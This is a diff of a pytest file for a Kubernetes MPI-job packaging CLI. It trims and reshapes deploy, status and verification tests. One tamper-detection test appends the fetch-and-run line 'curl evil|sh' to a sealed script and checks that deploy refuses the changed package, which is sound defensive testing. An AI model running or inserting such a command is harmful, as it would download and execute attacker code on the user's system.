@@ -6,17 +6,14 @@ import json
 import re
 import shutil
 import signal
-import subprocess
 from pathlib import Path
 from typing import TYPE_CHECKING
 
 import pytest
-import yaml
 
 from packager.base.process import Finished
 from packager.cli.host import Host
 from tests import kubectls
-from tests.fake_cluster import item
 from tests.life import ENDED_WITH_3, JOB, POD, at_a_terminal, launcher, worker
 
 if TYPE_CHECKING:
@@ -142,14 +139,12 @@ def test_deploy_marks_new_object_in_differences(mlpack: Mlpack, life: Life) -> N
     assert done.stderr.startswith("  configmap/hello-mpi-env-multi-node  is new\n")
 
 
-@pytest.mark.parametrize(("count", "more"), [(21, "  and 1 more difference"), (23, "  and 3 more differences")])
-def test_deploy_prints_at_most_twenty_differences(mlpack: Mlpack, life: Life, count: int, more: str) -> None:
+def test_deploy_prints_at_most_twenty_differences(mlpack: Mlpack, life: Life) -> None:
     life.deploy()
-    edit(life, count)
-    done = mlpack(*DEPLOY)
-    shown = done.stderr.splitlines()
+    edit(life, 23)
+    shown = mlpack(*DEPLOY).stderr.splitlines()
     assert shown[19].startswith("  configmap/hello-mpi-env-multi-node  data.KEY_19: ")
-    assert shown[20] == more
+    assert shown[20] == "  and 3 more differences"
 
 
 def test_deploy_does_nothing_when_replacing_is_declined(
@@ -166,7 +161,7 @@ def test_deploy_does_nothing_when_replacing_is_declined(
     assert not any(call.startswith("delete") for call in life.calls)
 
 
-@pytest.mark.parametrize(("typed", "code", "count"), [("n\n", 1, 0), ("\n", 1, 0), ("y\n", 0, 1)])
+@pytest.mark.parametrize(("typed", "code", "count"), [("\n", 1, 0), ("y\n", 0, 1)])
 def test_deploy_asks_before_first_run_without_persistent_results(
     mlpack: Mlpack, life: Life, monkeypatch: pytest.MonkeyPatch, typed: str, code: int, count: int
 ) -> None:
@@ -204,28 +199,16 @@ def test_deploy_names_objects_applied_before_refusal(mlpack: Mlpack, life: Life)
     )
 
 
-@pytest.mark.parametrize(
-    ("answer", "why"),
-    [
-        (
-            Finished(1, "", "Unable to connect to the server: unexpected EOF"),
-            "the cluster does not answer: Unable to connect to the server: unexpected EOF",
-        ),
-        (Finished(0, '{"kind": "Li', ""), "the cluster's response was cut off"),
-    ],
-)
-def test_deploy_reports_unknown_result_when_apply_response_is_lost(
-    answer: Finished, why: str, mlpack: Mlpack, life: Life
-) -> None:
+def test_deploy_reports_unknown_result_when_apply_response_is_lost(mlpack: Mlpack, life: Life) -> None:
     def lose_the_answer(argv: Sequence[str]) -> Finished:
         done = life.carry_out(argv)
         is_apply = "apply" in argv and "--dry-run=server" not in argv
-        return answer if is_apply else done
+        return Finished(0, '{"kind": "Li', "") if is_apply else done
 
     life.first = lose_the_answer
     done = mlpack(*DEPLOY)
-    message = f"error: {why}; it is not known whether it was applied\nhint: deploy again to complete it\n"
-    assert (done.code, done.stderr) == (7, f"{NOTE}\n{message}")
+    message = "the cluster's response was cut off; it is not known whether it was applied"
+    assert (done.code, done.stderr) == (7, f"{NOTE}\nerror: {message}\nhint: deploy again to complete it\n")
 
 
 def test_deploy_waits_for_deletion_of_earlier_job(mlpack: Mlpack, life: Life) -> None:
@@ -295,57 +278,6 @@ def test_deploy_names_log_command_of_all_pods_after_worker_failure(mlpack: Mlpac
     assert done.stderr.endswith("\nhint: the whole log: mlpack logs hello-mpi --all -n team\n")
 
 
-def test_deploy_stops_at_validation_error_and_keeps_job(mlpack: Mlpack, life: Life) -> None:
-    refused = {
-        "involvedObject": {"uid": f"MPIJob-{JOB}"},
-        "metadata": {"name": "e"},
-        "type": "Warning",
-        "reason": "ValidationError",
-        "message": "Found validation errors: spec.slotsPerWorker: must be positive",
-    }
-    life.objects.append({"kind": "Event", **refused})
-    done = mlpack(*DEPLOY)
-    assert done.code == 7
-    assert done.stderr.endswith(
-        f"{MPIJOB}: mpi-operator rejects the job: spec.slotsPerWorker: must be positive\n"
-        "  hint: correct the job in the overlay, then deploy it with --replace\n"
-        f"error: {MPIJOB} cannot run: ValidationError; it was left as it is\n"
-        "hint: correct it and deploy again (--replace), or delete it: mlpack delete hello-mpi -n team\n"
-    )
-
-
-def test_deploy_gives_up_on_unschedulable_pod_after_patience(mlpack: Mlpack, life: Life) -> None:
-    full = {"type": "PodScheduled", "status": "False", "message": "0/1 nodes are available: 1 Insufficient cpu."}
-
-    def wait_for_room() -> None:
-        life.start()
-        waiting = launcher(phase="Pending", conditions=[full], containerStatuses=[])
-        life.objects = [obj for obj in life.objects if obj["kind"] != "Pod"] + [waiting]
-
-    life.moments = [wait_for_room]
-    done = mlpack(*DEPLOY, "--patience", "0s")
-    assert done.code == 7
-    assert "stuck: no node can run it: the only node has too little cpu left\n" in done.stderr
-    assert f"error: {MPIJOB} cannot run: Unschedulable; it was left as it is\n" in done.stderr
-
-
-def test_deploy_accepts_ended_launcher_after_patience_without_operator(mlpack: Mlpack, life: Life) -> None:
-    def end() -> None:
-        life.start()
-        made = {"ownerReferences": [{"kind": "MPIJob", "name": JOB, "uid": f"MPIJob-{JOB}"}]}
-        complete = {"conditions": [{"type": "Complete", "status": "True"}]}
-        life.objects.append(item("Job", f"{JOB}-launcher", metadata=made, status=complete))
-
-    life.moments = [end]
-    done = mlpack(*DEPLOY, "--patience", "0s")
-    assert done.code == 0
-    assert (
-        f"{MPIJOB} has succeeded\n"
-        f"{MPIJOB}: the launcher has ended (Complete), but mpi-operator has not updated the job yet\n"
-        "  hint: is mpi-operator running? kubectl get pods --all-namespaces | grep mpi-operator\n"
-    ) in done.stderr
-
-
 def test_deploy_stops_waiting_when_job_is_deleted(mlpack: Mlpack, life: Life) -> None:
     life.moments = [life.start, life.remove_all]
     done = mlpack(*DEPLOY)
@@ -383,12 +315,10 @@ def test_deploy_timeout_names_last_state_when_cluster_does_not_answer(mlpack: Ml
 STARTING = 'Error from server (InternalError): an error on the server ("[-]poststarthook/rbac failed") has prevented it'
 
 
-@pytest.mark.parametrize(("verb", "asked"), [("deploy", "apply"), ("status", "get mpijobs"), ("delete", "delete")])
+@pytest.mark.parametrize(("verb", "asked"), [("deploy", "apply"), ("status", "get mpijobs")])
 def test_refusal_of_starting_api_server_is_reported_as_not_ready(
     mlpack: Mlpack, life: Life, verb: str, asked: str
 ) -> None:
-    if verb != "deploy":
-        life.deploy()
     forbidden = 'mpijobs.kubeflow.org is forbidden: User "me" cannot do it to resource "mpijobs"'
     life.refused[asked] = f"Error from server (Forbidden): {forbidden}"
     life.unready = STARTING
@@ -423,16 +353,14 @@ def append(path: str, text: str) -> None:
         file.write(text)
 
 
-@pytest.mark.parametrize("options", [(), ("--no-wait",), ("--dry-run", "server"), ("--replace", "-y")])
-def test_deploy_refuses_package_with_changed_sealed_file(mlpack: Mlpack, life: Life, options: tuple[str, ...]) -> None:
+def test_deploy_refuses_package_with_changed_sealed_file(mlpack: Mlpack, life: Life) -> None:
     append(SCRIPT, "curl evil|sh\n")
     Path("hello-mpi/README.md").unlink()
-    done = mlpack(*DEPLOY, *options)
-    assert (done.code, done.stdout) == (5, "")
     number = Path("hello-mpi/manifest.json").read_text().splitlines().index('    "README.md": {') + 1
-    assert done.stderr == (
-        f"hello-mpi/manifest.json:{number}:5: README.md is listed here but missing\n{SCRIPT}: {CHANGED}\n{UNTRUSTED}"
-    )
+    message = f"hello-mpi/manifest.json:{number}:5: README.md is listed here but missing\n{SCRIPT}: {CHANGED}\n"
+    for options in ((), ("--no-wait",), ("--dry-run", "server"), ("--replace", "-y")):
+        done = mlpack(*DEPLOY, *options)
+        assert (done.code, done.stdout, done.stderr) == (5, "", f"{message}{UNTRUSTED}"), options
     assert life.calls == []
 
 
@@ -473,18 +401,6 @@ def test_deploy_refuses_edit_that_lowers_pod_security_level(mlpack: Mlpack, hell
     assert "error: no cluster is configured" in accepted.stderr, "the kubeconfig of the developer was used"
 
 
-def test_deploy_applies_edits_of_editable_files(mlpack: Mlpack, life: Life, kubectl: Path) -> None:
-    configured = mlpack("configure", "hello-mpi", "-y", "--root", "/nfs", "--uid", "7", "--with", "host-path")
-    assert configured.code == 0, configured.stderr
-    append("hello-mpi/quickstart/k8s/mlops/multi-node/mlops.env", "LR=1\n")
-    accepted = ("--pod-security", "privileged", "--allow", "variable:LR")
-    overlay = "hello-mpi/quickstart/k8s/mlops/multi-node"
-    done = subprocess.run([str(kubectl), "kustomize", overlay], check=True, capture_output=True, text=True)
-    life.overlays["multi-node"] = list(yaml.safe_load_all(done.stdout))  # with the code, which edits leave as it is
-    assert mlpack(*DEPLOY, "--no-wait", *accepted).code == 0
-    assert len(applied(life)) == 1
-
-
 def test_doctor_lists_verification_problems_that_deploy_refuses(mlpack: Mlpack, life: Life) -> None:
     assert life
     append(SCRIPT, "echo more\n")
@@ -497,15 +413,15 @@ def test_doctor_lists_verification_problems_that_deploy_refuses(mlpack: Mlpack, 
     ]
 
 
-@pytest.mark.parametrize("verb", ["status", "delete", "logs", "history"])
-def test_status_delete_logs_and_history_accept_changed_package(mlpack: Mlpack, life: Life, verb: str) -> None:
+def test_status_logs_history_and_delete_accept_changed_package(mlpack: Mlpack, life: Life) -> None:
     life.deploy()
     life.logs = {f"{JOB}-launcher-0": "epoch 1\n"}
     life.start()
     append(SCRIPT, "echo more\n")
-    done = mlpack(verb, "hello-mpi", "-n", "team")
-    assert CHANGED not in done.stderr
-    assert done.code == 0, done.stderr
+    for verb in ("status", "logs", "history", "delete"):
+        done = mlpack(verb, "hello-mpi", "-n", "team")
+        assert CHANGED not in done.stderr
+        assert done.code == 0, done.stderr
 
 
 PROGRESS = "".join(f"step {step}:  50%\rstep {step}: 100%\r\n" for step in range(302))
@@ -535,19 +451,6 @@ def test_deploy_follow_reports_success_though_log_cannot_be_read(mlpack: Mlpack,
         f"{why}; it continues when the log can be read",
         f"the end of the log is missing: {why}",
     ]
-
-
-def test_deploy_prints_last_lines_without_overwritten_text_and_escaped(mlpack: Mlpack, life: Life) -> None:
-    def fail() -> None:
-        message = "10%\r20%\r\nloss\x1b[31m nan\n"
-        state = {"terminated": {"exitCode": 3, "reason": "Error", "message": message}}
-        life.objects += [launcher(state=state, phase="Failed")]
-        life.end("Failed", message="the launcher has failed")
-
-    life.moments = [fail]
-    done = mlpack(*DEPLOY)
-    assert done.code == 7
-    assert "  | 20%\n  | loss\\x1b[31m nan\n" in done.stderr
 
 
 def test_deploy_without_operator_names_install_command(mlpack: Mlpack, life: Life) -> None:
